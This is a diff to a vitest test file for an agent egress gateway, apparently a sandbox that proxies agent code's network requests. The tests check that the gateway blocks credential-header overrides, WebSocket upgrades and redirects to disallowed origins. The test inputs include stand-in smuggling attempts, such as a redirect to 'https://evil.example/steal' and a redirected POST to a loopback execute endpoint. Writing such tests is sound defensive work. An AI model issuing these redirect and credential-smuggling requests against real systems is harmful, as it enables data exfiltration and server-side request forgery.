@@ -1,5 +1,6 @@
 import { describe, expect, it } from "vitest";
-import { expectNoCanary, runEgress } from "./egress-helpers";
+import { expectNoCanary } from "./egress-helpers";
+import { execute } from "./helpers";
 
 /** Agent code that tries `attempts` in turn and returns each error message, or "sent". */
 function tryEach(attempts: string[]): string {
@@ -15,16 +16,16 @@ const OVERRIDE = (what: string) =>
 
 describe("egress smuggling: overriding the injected credential", () => {
   it("rejects a request that brings its own credential under a credentialed rule, however it is spelled", async () => {
-    const response = await runEgress(
-      tryEach([
+    const response = await execute({
+      code: tryEach([
         `fetch("http://rates.demo.invalid/v1/echo", { headers: { Authorization: "Bearer mine" } })`,
         `fetch("http://rates.demo.invalid/v1/echo", { headers: { authorization: "Basic bWluZTptaW5l" } })`,
         `fetch("http://rates.demo.invalid/v1/echo", { headers: new Headers([["AUTHORIZATION", "Bearer mine"]]) })`,
         `fetch(new Request("http://rates.demo.invalid/v1/echo", { headers: { authorization: "Bearer mine" } }))`,
         `fetch("http://rates.demo.invalid/v1/echo", { headers: { "Proxy-Authorization": "Bearer mine" } })`,
       ]),
-      { apis: ["rates"] },
-    );
+      apis: ["rates"],
+    });
     expect(response.result).toEqual([
       OVERRIDE("authorization header"),
       OVERRIDE("authorization header"),
@@ -38,41 +39,42 @@ describe("egress smuggling: overriding the injected credential", () => {
   });
 
   it("passes an agent's own Authorization to an origin whose rule injects nothing: it is the agent's, not a secret", async () => {
-    const response = await runEgress(
-      `const echo = (await (await fetch("http://echo.demo.invalid/v1/echo", { headers: { authorization: "Bearer agent-own" } })).json()) as { headers: Record<string, string> };
+    const response = await execute({
+      code: `const echo = (await (await fetch("http://echo.demo.invalid/v1/echo", { headers: { authorization: "Bearer agent-own" } })).json()) as { headers: Record<string, string> };
        return echo.headers.authorization;`,
-      { egress: ["demo-echo"] },
-    );
+      apis: [],
+      egress: ["demo-echo"],
+    });
     expect(response.result).toBe("Bearer agent-own");
   });
 
   it("refuses protocol upgrades, so no WebSocket can bypass the response checks", async () => {
-    const response = await runEgress(tryEach([`fetch("http://echo.demo.invalid/v1/echo", { headers: { Upgrade: "websocket" } })`]), { egress: ["demo-echo"] });
+    const response = await execute({ code: tryEach([`fetch("http://echo.demo.invalid/v1/echo", { headers: { Upgrade: "websocket" } })`]), apis: [], egress: ["demo-echo"] });
     expect(response.result).toEqual(["Egress denied: GET http://echo.demo.invalid: the gateway does not proxy WebSocket or other protocol upgrades. Use plain HTTP requests."]);
   });
 });
 
 describe("egress smuggling: redirects are followed hop by hop, each through the gateway", () => {
   it("follows a redirect within the rule, injecting the credential again at the new hop", async () => {
-    const response = await runEgress(
-      `const response = await fetch("http://rates.demo.invalid/v1/redirect?to=/v1/echo");
+    const response = await execute({
+      code: `const response = await fetch("http://rates.demo.invalid/v1/redirect?to=/v1/echo");
        const echo = (await response.json()) as { authorized: boolean };
        return { redirected: response.redirected, url: response.url, authorized: echo.authorized };`,
-      { apis: ["rates"] },
-    );
+      apis: ["rates"],
+    });
     expect(response.result).toEqual({ redirected: true, url: "http://rates.demo.invalid/v1/echo", authorized: true });
     expect(response.stats.egress.map((r) => r.status)).toEqual([302, 200]);
   });
 
   it("fails a redirect to an origin no rule allows, naming that origin, after the first hop", async () => {
-    const response = await runEgress(
-      tryEach([
+    const response = await execute({
+      code: tryEach([
         `fetch("http://rates.demo.invalid/v1/redirect?to=" + encodeURIComponent("https://evil.example/steal"))`,
         `fetch("http://rates.demo.invalid/v1/redirect?status=307&to=" + encodeURIComponent("http://127.0.0.1:8787/v1/execute"), { method: "POST", body: "{}" })`,
         `fetch("http://rates.demo.invalid/v1/redirect?to=" + encodeURIComponent("http://rates.demo.invalid/admin"))`,
       ]),
-      { apis: ["rates"] },
-    );
+      apis: ["rates"],
+    });
     const [evil, loopback, outside] = response.result as string[];
     expect(evil).toMatch(/^Egress denied: GET https:\/\/evil\.example: no egress rule granted to this execution allows that origin\./);
     expect(loopback).toMatch(/^Egress denied: POST http:\/\/127\.0\.0\.1:8787: no egress rule granted .* loopback, private or local address/);
@@ -88,11 +90,11 @@ describe("egress smuggling: redirects are followed hop by hop, each through the 
   });
 
   it("hands a manual redirect back as it is, without following it", async () => {
-    const response = await runEgress(
-      `const response = await fetch("http://rates.demo.invalid/v1/redirect?to=" + encodeURIComponent("https://evil.example/"), { redirect: "manual" });
+    const response = await execute({
+      code: `const response = await fetch("http://rates.demo.invalid/v1/redirect?to=" + encodeURIComponent("https://evil.example/"), { redirect: "manual" });
        return [response.status, response.headers.get("location")];`,
-      { apis: ["rates"] },
-    );
+      apis: ["rates"],
+    });
     expect(response.result).toEqual([302, "https://evil.example/"]);
     expect(response.stats.egress).toHaveLength(1);
   });
